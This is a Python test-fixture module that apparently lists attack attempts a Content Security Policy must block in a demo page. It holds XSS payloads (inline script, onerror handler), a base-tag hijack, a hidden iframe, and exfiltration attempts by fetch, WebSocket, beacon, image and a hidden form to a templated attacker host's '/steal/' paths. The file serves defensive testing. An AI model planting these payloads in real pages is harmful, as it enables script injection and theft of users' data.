"""What the demo's page does against itself, and what must stop each of it.

Half of it is markup, as an application would print it that forgot to escape a comment; the
other half is the code of a third-party module, which the policy lets in from the CDN and
then holds (SECURITY-MODEL §6). A browser without the policy lets all of it through: the
control run of tests/browser proves that.
"""

from typing import NamedTuple


class Targets(NamedTuple):
    """Origins that the page talks of."""

    cdn: str
    foreign: str
    """The attacker's own host: it must never hear of anything."""
    other_tenant: str


class Attack(NamedTuple):
    """One attempt.

    ``directives`` are the effective directives of which one must stop it, ``blocked`` what
    the browser calls the thing blocked. ``markup`` stands in the page; without it the
    module's code makes the attempt, with ``target``. Both are templates over ``Targets``.
    """

    name: str
    title: str
    story: str
    directives: tuple[str, ...]
    blocked: tuple[str, ...]
    target: str = ""
    markup: str = ""
    by_module: bool = True


ATTACKS = (
    Attack(
        "inline-script",
        "Inline script",
        "A comment that nobody escaped brings a script of its own.",
        ("script-src-elem",),
        ("inline",),
        markup='<script>septem.land("inline-script")</script>',
        by_module=False,
    ),
    Attack(
        "inline-handler",
        "Inline event handler",
        "The same, dressed as a picture that fails to load.",
        ("script-src-attr",),
        ("inline",),
        markup='<img src="/shell/missing.png" alt onerror="septem.land(\'inline-handler\')">',
        by_module=False,
    ),
    Attack(
        "foreign-script",
        "Script from a foreign host",
        "A tag in the page loads code from the attacker.",
        ("script-src-elem",),
        ("{foreign}/evil/foreign-script.js",),
        markup='<script src="{foreign}/evil/foreign-script.js"></script>',
        by_module=False,
    ),
    Attack(
        "base",
        "Base hijack",
        "One tag makes every relative address lead to the attacker.",
        ("base-uri",),
        ("{foreign}/evil/base/",),
        markup='<base href="{foreign}/evil/base/"><script src="late.js"></script>',
        by_module=False,
    ),
    Attack(
        "frame",
        "A foreign page inside",
        "A frame over the shell asks for the password once more.",
        ("frame-src",),
        ("{foreign}", "{foreign}/steal/frame"),
        markup='<iframe src="{foreign}/steal/frame" title="attack" hidden></iframe>',
        by_module=False,
    ),
    Attack(
        "eval",
        "Code from a string",
        "The module builds code at run time and calls eval.",
        ("require-trusted-types-for", "script-src"),
        ("trusted-types-sink", "eval"),
    ),
    Attack(
        "added-script",
        "A script the module adds",
        "The module writes a script element that loads from the attacker.",
        ("require-trusted-types-for", "script-src-elem"),
        ("trusted-types-sink", "{foreign}/evil/added-script.js"),
        "{foreign}/evil/added-script.js",
    ),
    Attack(
        "fetch",
        "Exfiltration by fetch",
        "What the user typed, posted to the attacker.",
        ("connect-src",),
        ("{foreign}/steal/fetch",),
        "{foreign}/steal/fetch",
    ),
    Attack(
        "websocket",
        "Exfiltration by WebSocket",
        "The same through a socket that stays open.",
        ("connect-src",),
        ("wss", "{socket}/steal/websocket"),
        "{socket}/steal/websocket",
    ),
    Attack(
        "beacon",
        "Exfiltration by beacon",
        "The same in the moment the page is left.",
        ("connect-src",),
        ("{foreign}/steal/beacon",),
        "{foreign}/steal/beacon",
    ),
    Attack(
        "image",
        "Exfiltration by image",
        "The same in the address of a picture.",
        ("img-src",),
        ("{foreign}/steal/image",),
        "{foreign}/steal/image",
    ),
    Attack(
        "form",
        "A form that leads abroad",
        "The user's own click would send the form to the attacker.",
        ("form-action",),
        ("{foreign}/steal/form",),
        markup='<form id="stolen" action="{foreign}/steal/form" method="post" target="sink" hidden>'
        '<input name="card" value="4111"></form><iframe name="sink" title="sink" hidden></iframe>',
    ),
    Attack(
        "tenant",
        "Another tenant's domain",
        "A module of one tenant calls the API of another.",
        ("connect-src",),
        ("{other_tenant}/shell/steal/tenant",),
        "{other_tenant}/shell/steal/tenant",
    ),
)


def fill(template: str, targets: Targets) -> str:
    """Put the origins into a template of an attack."""
    socket = targets.foreign.replace("https:", "wss:")
    filled = template.replace("{foreign}", targets.foreign).replace("{socket}", socket)
    return filled.replace("{other_tenant}", targets.other_tenant)
